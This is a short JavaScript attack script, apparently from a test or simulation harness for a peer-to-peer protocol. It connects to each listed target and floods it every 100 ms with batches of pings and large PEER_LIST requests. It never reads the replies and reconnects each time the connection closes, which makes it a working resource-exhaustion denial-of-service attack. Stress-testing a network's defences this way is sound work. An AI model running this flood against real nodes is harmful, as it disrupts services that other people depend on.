// Shakes hands, asks and asks, and never reads an answer.
import { count, dial, frame, hello, message, order, ping } from "./attacker.mjs"

const { id, targets } = order

const asked = () =>
  Buffer.concat(
    Array.from({ length: 200 }, (_, n) =>
      n % 2 === 0 ? ping(id) : frame(message(id, "PEER_LIST", { kind: "request", limit: 1_000 }))
    )
  )

const attack = (target) => {
  const socket = dial(target)
  const ask = () => {
    if (!socket.writable || socket.writableLength > 0) return
    count("questions", 200)
    socket.write(asked())
  }
  const asking = setInterval(ask, 100)
  socket.on("close", () => {
    clearInterval(asking)
    count("closed")
    setTimeout(() => attack(target), 500)
  })
  socket.write(frame(hello(id)))
}

for (const target of targets) attack(target)
